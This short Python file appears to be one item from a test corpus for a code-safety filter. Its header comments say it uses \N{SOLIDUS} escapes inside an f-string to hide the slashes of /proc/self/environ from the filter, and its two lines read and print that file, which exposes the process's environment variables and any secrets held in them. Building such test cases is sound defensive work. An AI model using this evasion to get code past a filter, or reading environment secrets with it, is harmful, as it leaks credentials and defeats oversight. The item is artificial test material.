# family: injection
# filterfamily: unicode-comments
# tries: spell the slashes of a procfs path as named escapes inside an f-string, which the filter cannot decode, and print the environment
# source: none
# exfil: yes
with open(f"\N{SOLIDUS}proc\N{SOLIDUS}self\N{SOLIDUS}environ", "rb") as f:
    print(f.read().replace(b"\0", b"\n").decode(errors="replace"))
